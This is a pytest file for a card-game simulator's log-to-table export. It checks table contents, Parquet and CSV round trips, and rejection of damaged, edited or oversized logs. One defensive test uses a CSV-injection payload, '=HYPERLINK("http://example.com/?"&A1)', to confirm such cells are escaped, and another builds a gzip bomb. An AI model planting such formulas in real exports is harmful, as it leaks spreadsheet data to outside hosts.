"""Game logs as tables (``manaweave.dataset``, ``manaweave export``): each table says what
the events say, computed both ways; exports read back the same; bad input is a clear
error."""

from __future__ import annotations

import csv
import gc
import gzip
import io
import tracemalloc
from collections import Counter
from functools import cache
from pathlib import Path
from typing import Any

import orjson
import polars as pl
import pytest
import trio
from polars.testing import assert_frame_equal

import manaweave.log
from manaweave import dataset, new_game, play_game
from manaweave.dataset import (
    CARD_COLUMNS,
    EVENT_COLUMNS,
    GAME_COLUMNS,
    PLAYER_COLUMNS,
    TABLES,
    DatasetError,
    export,
    frame_of,
    load_dataset,
)
from manaweave.log import redact, render_log
from manaweave.lowlevel import UnusableGame, default_plugins
from manaweave.lowlevel import command_line as main
from manaweave.players import RandomBot

DECKS = ["m10:red-green", "m10:green-white"]
THREE = ["m10:red-green", "m10:green-white", "m10:red-burn"]


def _play(seed: int, decks: list[str]) -> list[dict[str, Any]]:
    players = [RandomBot(seed=seed * 10 + i) for i in range(len(decks))]
    game = new_game(decks=decks, players=players, seed=seed, max_turns=60)
    trio.run(play_game, game)
    return [orjson.loads(orjson.dumps(r)) for r in game.log.records]


@cache
def logs() -> tuple[tuple[dict[str, Any], ...], ...]:
    """Five two-player games and a three-player one (Free-for-All)."""
    games = [_play(seed, DECKS) for seed in range(1, 6)]
    games.append(_play(6, THREE))
    return tuple(tuple(g) for g in games)


def _write(folder: Path, games: Any, *, gz: bool = False, name: str = "games") -> Path:
    """Write ``games`` one after another into one file, as a simulation's shard holds
    them."""
    folder.mkdir(parents=True, exist_ok=True)
    data = b"".join(orjson.dumps(r) + b"\n" for game in games for r in game)
    path = folder / (f"{name}.jsonl.gz" if gz else f"{name}.jsonl")
    path.write_bytes(gzip.compress(data) if gz else data)
    return path


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The games split over a plain file and a compressed shard in a subfolder."""
    root = tmp_path_factory.mktemp("logs")
    _write(root, logs()[:3])
    _write(root / "shards", logs()[3:], gz=True, name="shard-0")
    return root


def _events(game: tuple[dict[str, Any], ...], kind: str) -> list[dict[str, Any]]:
    return [r for r in game if r["event"] == kind]


@pytest.mark.rules("103.1", "103.5", "104.2a")
def test_the_games_and_players_tables_say_what_the_events_say(folder: Path) -> None:
    data = load_dataset(folder)
    assert data.skipped == 0
    by_id = {row["game"]: row for row in data.games}
    assert len(by_id) == len(logs())
    for game in logs():
        started, ended = game[0], game[-1]
        row = by_id[started["game"]]
        assert row["winners"] == ended["winners"]
        assert row["turns"] == ended["turns"]
        assert row["players"] == len(started["players"])
        assert row["first_player"] == _events(game, "starting_player_chosen")[0]["player"]
        taken = Counter(r["player"] for r in _events(game, "mulligan_taken"))
        assert row["mulligans"] == [taken[seat] for seat in range(row["players"])]
        assert row["events"] == len(game)
        players = [p for p in data.players if p["game"] == started["game"]]
        assert [p["won"] for p in players] == [s in ended["winners"] for s in range(len(players))]
        life = {r["player"]: r["life"] for r in _events(game, "life_changed")}
        for p in players:
            assert p["final_life"] == life.get(p["seat"], 20)
            assert p["deck"] == started["deck_names"][p["seat"]]


@pytest.mark.rules("121.1", "103.5", "601.2i", "305.1", "700.4", "120.3")
def test_the_cards_table_says_what_the_events_say(folder: Path) -> None:
    data = load_dataset(folder)
    host = default_plugins()
    for game in logs():
        game_id = game[0]["game"]
        rows = [c for c in data.cards if c["game"] == game_id]
        first_turn = next(r["seq"] for r in game if r["event"] == "turn_began")
        for seat in range(len(game[0]["players"])):
            mine = [c for c in rows if c["seat"] == seat]
            assert Counter({c["card"]: c["copies"] for c in mine if c["copies"]}) == Counter(
                game[0]["decks"][seat]
            )
            drawn_before = [
                r
                for r in _events(game, "card_drawn")
                if r["player"] == seat and r["seq"] < first_turn
            ]
            bottomed = [
                r
                for r in game[:first_turn]
                if r.get("from_zone") == "hand" and r.get("player") == seat
            ]
            assert sum(c["in_opening_hand"] for c in mine) == len(drawn_before) - len(bottomed)
            drawn_after = [
                r
                for r in _events(game, "card_drawn")
                if r["player"] == seat and r["seq"] > first_turn
            ]
            assert sum(c["drawn"] for c in mine) == len(drawn_after)
            casts = Counter(r["card"] for r in _events(game, "spell_cast") if r["player"] == seat)
            assert {c["card"]: c["cast"] for c in mine if c["cast"]} == dict(casts)
            lands = Counter(r["card"] for r in _events(game, "land_played") if r["player"] == seat)
            assert {c["card"]: c["played"] for c in mine if c["played"]} == dict(lands)
            deaths = Counter(
                r["card"]
                for r in game
                if r.get("from_zone") == "battlefield"
                and r.get("to_zone") == "graveyard"
                and r.get("player") == seat
                and "Creature" in host.cards[r["card"]].types
            )
            assert {c["card"]: c["died"] for c in mine if c["died"]} == dict(deaths)
            damage = [
                r for r in _events(game, "damage_dealt") if r.get("source_controller") == seat
            ]
            assert sum(c["damage"] for c in mine) == sum(r["amount"] for r in damage)
            assert sum(c["damage_to_players"] for c in mine) == sum(
                r["amount"] for r in damage if "to_player" in r
            )
        # Every point of damage in the game belongs to some seat's card.
        assert sum(c["damage"] for c in rows) == sum(
            r["amount"] for r in _events(game, "damage_dealt")
        )


def test_the_events_table_has_a_row_a_line_with_stable_types(folder: Path) -> None:
    data = load_dataset(folder)
    assert len(data.events) == sum(len(game) for game in logs())
    frame = frame_of(data.events, EVENT_COLUMNS)
    assert frame.schema["visibility"] == pl.List(pl.Int64)
    assert frame.schema["fields"] == pl.String
    first = data.events[0]
    assert first["event"] == "game_started"
    assert orjson.loads(first["fields"])["seed"] == logs()[0][0]["seed"]
    # A line only one player saw names only them; a public one every seat.
    drawn = next(e for e in data.events if e["event"] == "card_drawn")
    assert drawn["visibility"] == [drawn["player"]]
    assert first["visibility"] == [0, 1]


def test_every_table_matches_its_documented_columns(folder: Path) -> None:
    data = load_dataset(folder)
    for name, columns in TABLES.items():
        for row in data.table(name)[:50]:
            assert list(row) == [c.name for c in columns]
            for column in columns:
                value = row[column.name]
                if value is None:
                    assert column.nullable, (name, column.name)
    assert GAME_COLUMNS[0].name == PLAYER_COLUMNS[0].name == CARD_COLUMNS[0].name == "game"
    doc = (Path(__file__).parents[1] / "docs" / "dataset.md").read_text()
    for name, columns in TABLES.items():
        assert f"## `{name}`" in doc
        for column in columns:
            assert f"| `{column.name}` |" in doc, (name, column.name)


@pytest.mark.parametrize("format", ["parquet", "csv"])
def test_an_export_reads_back_as_the_tables(folder: Path, tmp_path: Path, format: str) -> None:
    out = tmp_path / "dataset"
    result = export(folder, out, format=format)
    assert result.games == len(logs())
    data = load_dataset(folder)
    for name in ("games", "players", "cards"):
        path = out / f"{name}.{format}"
        read = pl.read_parquet(path) if format == "parquet" else pl.read_csv(path)
        assert read.height == len(data.table(name))
        assert read.columns == [c.name for c in TABLES[name]]
    events = list((out / "events").iterdir())
    assert events
    if format == "parquet":
        back = pl.read_parquet(out / "games.parquet")
        assert back.equals(frame_of(data.games, GAME_COLUMNS))
        assert pl.read_parquet(events[0]).schema == frame_of([], EVENT_COLUMNS).schema
    with pytest.raises(DatasetError, match="holds tables already"):
        export(folder, out, format=format)
    export(folder, out, format=format, overwrite=True)


_OWN_COLUMNS = {
    "v",
    "game",
    "seq",
    "event",
    "turn",
    "step",
    "player",
    "rule",
    "cause",
    "visibility",
}


def _event_rows(game: Any) -> list[dict[str, Any]]:
    """The events table's rows of ``game``, a line each, as docs/dataset.md describes them."""
    seats = len(game[0]["players"])
    return [
        {
            "game": game[0]["game"],
            "seq": line["seq"],
            "event": line["event"],
            "turn": line.get("turn") or 0,
            "step": line.get("step"),
            "player": line.get("player"),
            "rule": line.get("rule"),
            "cause": line.get("cause"),
            "visibility": (
                list(range(seats))
                if line.get("visibility") in (None, "public")
                else line["visibility"]
            ),
            "fields": orjson.dumps(
                {k: v for k, v in line.items() if k not in _OWN_COLUMNS},
                option=orjson.OPT_SORT_KEYS,
            ).decode(),
        }
        for line in game
    ]


def _resealed(game: Any, change: Any) -> list[dict[str, Any]]:
    """A copy of ``game`` whose lines ``change`` edited, with a fresh digest."""
    records = [dict(r) for r in game]
    change(records)
    return [orjson.loads(line) for line in render_log(records).splitlines()]


@pytest.mark.parametrize("format", ["parquet", "csv"])
def test_the_exported_events_are_a_row_a_line_in_order_over_every_part(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, format: str
) -> None:
    # A line a plugin logged without a visibility: every seat may see it.
    plugin_line = _resealed(logs()[0], lambda lines: lines[3].pop("visibility"))
    games = [plugin_line, *logs()[1:]]
    _write(tmp_path / "logs", games[:3])
    _write(tmp_path / "logs" / "shards", games[3:], gz=True, name="shard-0")
    monkeypatch.setattr(dataset, "EVENT_BATCH", 2)  # parts of two games each: three
    export(tmp_path / "logs", tmp_path / "out", format=format)
    parts = sorted((tmp_path / "out" / "events").iterdir())
    assert [p.name for p in parts] == [f"part-{i:05d}.{format}" for i in range(3)]
    for index, part in enumerate(parts):
        rows = [row for game in games[2 * index : 2 * index + 2] for row in _event_rows(game)]
        expected = tmp_path / f"expected.{format}"
        if format == "parquet":
            assert_frame_equal(
                pl.read_parquet(part), frame_of(rows, EVENT_COLUMNS), check_exact=True
            )
        else:  # the very bytes the rows give, written as every other table is
            dataset._write_table(expected, EVENT_COLUMNS, rows, "csv")
            assert part.read_bytes() == expected.read_bytes()
    assert _event_rows(plugin_line)[3]["visibility"] == [0, 1]


def test_a_line_whose_value_its_column_cannot_hold_refuses_the_game(tmp_path: Path) -> None:
    """A step that is a number would be written as the text ``"5"`` without a word."""

    def step_a_number(lines: list[dict[str, Any]]) -> None:
        lines[20]["step"] = 5

    bad = _resealed(logs()[1], step_a_number)
    path = _write(tmp_path / "logs", [logs()[0], bad, logs()[2]])
    with pytest.raises(DatasetError, match="cannot be tabled: event 20 has step 5, not a text"):
        export(path, tmp_path / "refused")
    told: list[UnusableGame] = []
    result = export(path, tmp_path / "out", rejected=told.append)
    assert (result.games, result.rejected, len(told)) == (2, 1, 1)
    assert told[0].where == f"game {logs()[1][0]['game']}"
    events = pl.read_parquet(tmp_path / "out" / "events" / "part-00000.parquet")
    assert events["game"].unique(maintain_order=True).to_list() == [
        logs()[0][0]["game"],
        logs()[2][0]["game"],
    ]
    assert events.height == len(logs()[0]) + len(logs()[2])


def test_export_leaves_the_garbage_collector_as_it_found_it(folder: Path, tmp_path: Path) -> None:
    """Export pauses the cyclic collector while it reads; it runs again afterwards,
    whether the export ended or failed, and stays off if it was off."""
    export(folder, tmp_path / "one")
    assert gc.isenabled()
    with pytest.raises(DatasetError, match="holds tables already"):
        export(folder, tmp_path / "one")
    _write(tmp_path / "twice", [logs()[0]], name="a")
    _write(tmp_path / "twice", [logs()[0]], name="b")
    with pytest.raises(DatasetError, match="was read already"):
        export(tmp_path / "twice", tmp_path / "two")
    assert gc.isenabled()
    gc.disable()
    try:
        export(folder, tmp_path / "three")
        assert not gc.isenabled()
    finally:
        gc.enable()


def test_unfinished_games_are_counted_and_left_out(tmp_path: Path) -> None:
    whole, cut = logs()[0], logs()[1]
    _write(tmp_path, [whole, cut[: len(cut) // 2]])
    data = load_dataset(tmp_path)
    assert (len(data.games), data.skipped) == (1, 1)
    # A compressed shard whose tail was cut off while being written.
    shard = _write(tmp_path / "cut", [whole, cut], gz=True)
    shard.write_bytes(shard.read_bytes()[:-200])
    data = load_dataset(tmp_path / "cut")
    assert len(data.games) + data.skipped == 2
    assert data.games[0]["game"] == whole[0]["game"]


def test_bad_input_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(DatasetError, match="no such file or folder"):
        load_dataset(tmp_path / "nowhere")
    (tmp_path / "empty").mkdir()
    with pytest.raises(DatasetError, match="no game logs"):
        load_dataset(tmp_path / "empty")
    (tmp_path / "bad.jsonl").write_text("not json\n")
    with pytest.raises(DatasetError, match=r"bad.jsonl: line 1 is not JSON"):
        load_dataset(tmp_path / "bad.jsonl")
    redacted = [dict(r) for r in redact(logs()[0], 0)]
    _write(tmp_path / "redacted", [redacted])
    with pytest.raises(DatasetError, match="redacted log"):
        load_dataset(tmp_path / "redacted")
    _write(tmp_path / "twice", [logs()[0]], name="a")
    _write(tmp_path / "twice", [logs()[0]], name="b")
    with pytest.raises(DatasetError, match="was read already from"):
        load_dataset(tmp_path / "twice")
    with pytest.raises(ValueError, match="parquet or csv"):
        export(tmp_path / "twice", tmp_path / "out", format="xlsx")


def test_export_on_the_command_line(folder: Path, tmp_path: Path, capsys: Any) -> None:
    out = tmp_path / "out"
    assert main(["export", str(folder), "--out", str(out), "--no-progress"]) == 0
    assert f"{len(logs())} games" in capsys.readouterr().out
    assert (out / "cards.parquet").is_file()
    assert main(["export", str(folder), "--out", str(out), "--no-progress"]) == 2
    assert "holds tables already" in capsys.readouterr().err
    assert main(["export", str(tmp_path / "nowhere"), "--no-progress"]) == 2
    assert "no such file or folder" in capsys.readouterr().err


# --- games that fail their checks, damaged and oversized compressed logs -------------------------


def _edited(game: Any, change: Any, *, seal: bool) -> list[dict[str, Any]]:
    """A copy of ``game`` changed by ``change(started, ended)``; ``seal`` writes a fresh
    digest (the fields are then what is wrong), else the digest no longer matches."""
    records = [dict(r) for r in game]
    change(records[0], records[-1])
    return [orjson.loads(line) for line in render_log(records).splitlines()] if seal else records


def _winner_changed(started: dict[str, Any], ended: dict[str, Any]) -> None:
    ended["winners"] = [1] if ended["winners"] != [1] else [0]


@pytest.mark.parametrize(
    ("change", "seal", "reason"),
    [
        (_winner_changed, False, "its lines do not match the digest in game_ended"),
        (lambda s, e: s.pop("seed"), True, "game_started lacks seed"),
        (lambda s, e: e.update(winners=[2]), True, "winners [2] are not distinct seats"),
        (lambda s, e: e.update(winners=["1"]), True, "winners ['1'] are not distinct seats"),
        (lambda s, e: s.update(players=s["players"][:1]), True, "decks are malformed"),
    ],
)
def test_a_game_that_fails_its_checks_is_refused_or_left_out_naming_it(
    tmp_path: Path, change: Any, seal: bool, reason: str
) -> None:
    bad = _edited(logs()[1], change, seal=seal)
    path = _write(tmp_path / "logs", [logs()[0], bad, logs()[2]], gz=True)
    where = f"{path}: game {logs()[1][0]['game']} (line {len(logs()[0]) + 1}): "
    with pytest.raises(DatasetError) as refused:
        load_dataset(path)
    assert str(refused.value).startswith(where)
    assert reason in str(refused.value)
    told: list[UnusableGame] = []
    data = load_dataset(path, rejected=told.append)
    assert [g["game"] for g in data.games] == [logs()[0][0]["game"], logs()[2][0]["game"]]
    assert [str(game) for game in told] == [str(refused.value)]


def test_export_and_analyze_leave_an_edited_game_out_and_say_so(
    tmp_path: Path, capsys: Any
) -> None:
    bad = _edited(logs()[1], _winner_changed, seal=False)
    _write(tmp_path / "logs", [logs()[0], bad])
    out = tmp_path / "out"
    assert main(["export", str(tmp_path / "logs"), "--out", str(out), "--no-progress"]) == 0
    captured = capsys.readouterr()
    assert "1 games in" in captured.out
    assert "1 that fail a check left out" in captured.out
    assert "do not match the digest in game_ended; left out" in captured.err
    assert pl.read_parquet(out / "games.parquet")["game"].to_list() == [logs()[0][0]["game"]]
    report = tmp_path / "report"
    command = ["analyze", str(tmp_path / "logs"), "--out", str(report), "--no-plots"]
    assert main([*command, "--no-progress"]) == 0
    captured = capsys.readouterr()
    assert "1 games analyzed" in captured.out
    assert "do not match the digest in game_ended; left out" in captured.err


def test_a_damaged_member_of_a_shard_loses_only_its_game(tmp_path: Path) -> None:
    members = [pack_game(i, _log_bytes(game)) for i, game in enumerate(logs()[:4])]
    damaged = bytearray(members[1])
    damaged[len(damaged) // 2] ^= 0xFF
    shard = tmp_path / "shard-000.jsonl.gz"
    shard.write_bytes(members[0] + bytes(damaged) + members[2] + members[3])
    told: list[UnusableGame] = []
    data = load_dataset(shard, rejected=told.append)
    assert [g["game"] for g in data.games] == [logs()[i][0]["game"] for i in (0, 2, 3)]
    assert [game.where for game in told] == ["game 1"]
    assert "its gzip member" in told[0].reason


def test_a_compressed_member_that_expands_past_the_line_limit_is_refused_without_holding_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(manaweave.log, "MAX_LINE_BYTES", 1 << 20)
    shard = tmp_path / "shard-000.jsonl.gz"
    bomb = pack_game(1, b"x" * (24 << 20))
    shard.write_bytes(pack_game(0, _log_bytes(logs()[0])) + bomb + pack_game(2, b"\n" * (24 << 20)))
    load_dataset(tmp_path / "shard-000.jsonl.gz", rejected=lambda game: None)  # warm
    told: list[UnusableGame] = []
    tracemalloc.start()
    try:
        data = load_dataset(shard, rejected=told.append)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 12 << 20
    assert len(data.games) == 1
    assert [(game.where, game.reason.split(", which")[0]) for game in told] == [
        ("game 1", "line 1: a line longer than 1,048,576 bytes"),
        ("game 2", "its member holds no game"),
    ]
    # A plain file, or one compressed member of many games: the whole file is refused.
    plain = tmp_path / "plain.jsonl.gz"
    plain.write_bytes(gzip.compress(b"x" * (24 << 20)))
    with pytest.raises(DatasetError, match=r"plain.jsonl.gz:1: a line longer than 1,048,576 bytes"):
        load_dataset(plain)


def pack_game(index: int, log: bytes) -> bytes:
    """A shard's member: the gzip member named ``game-INDEX.jsonl`` holding ``log``."""
    buffer = io.BytesIO()
    with gzip.GzipFile(filename=f"game-{index}.jsonl", mode="wb", fileobj=buffer, mtime=0) as gz:
        gz.write(log)
    return buffer.getvalue()


def _log_bytes(game: Any) -> bytes:
    return b"".join(orjson.dumps(r) + b"\n" for r in game)


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(tmp_path: Path) -> None:
    """OWASP's CSV injection: a cell beginning with = + - @ tab or CR is a formula."""
    names = ['=HYPERLINK("http://example.com/?"&A1)', "@SUM(1+1)"]
    players = [RandomBot(seed=1), RandomBot(seed=2)]
    game = new_game(decks=DECKS, players=players, seed=1, max_turns=6, names=names)
    trio.run(play_game, game)
    _write(tmp_path / "logs", [[orjson.loads(line) for line in game.log.lines]])
    out = tmp_path / "out"
    export(tmp_path / "logs", out, format="csv", events=False)
    with (out / "players.csv").open(newline="") as file:
        cells = {row["seat"]: row for row in csv.DictReader(file)}
    assert [cells["0"]["name"], cells["1"]["name"]] == [f"'{name}" for name in names]
    assert cells["0"]["deck"] == "m10:red-green"  # other texts as they are
    assert cells["0"]["final_life"].lstrip("-").isdigit()  # numbers stay numbers


def test_the_lines_of_a_refused_game_are_passed_over_to_the_next_game(tmp_path: Path) -> None:
    """A game refused at its second line, then a million lines of no log, then a whole
    game: the refused game and the next are named by their lines (counted all the same)."""
    first, second = _log_bytes(logs()[0]), _log_bytes(logs()[1])
    junk = b"not json\n" + b"x\n" * 1_000_000
    head = first.split(b"\n", 1)[0] + b"\n"
    path = tmp_path / "junk.jsonl.gz"
    path.write_bytes(gzip.compress(head + junk + second))
    told: list[UnusableGame] = []
    data = load_dataset(path, rejected=told.append)
    assert [g["game"] for g in data.games] == [logs()[1][0]["game"]]
    assert [str(game) for game in told] == [
        f"{path}: game {logs()[0][0]['game']} (line 1): line 2 is not JSON"
    ]
    assert data.games[0]["events"] == len(logs()[1])
    edited = _log_bytes(_edited(logs()[1], _winner_changed, seal=False))
    path.write_bytes(gzip.compress(head + junk + edited))
    told.clear()
    assert not load_dataset(path, rejected=told.append).games
    assert told[1].where == f"game {logs()[1][0]['game']} (line 1000003)"
    assert told[1].reason == "its lines do not match the digest in game_ended"
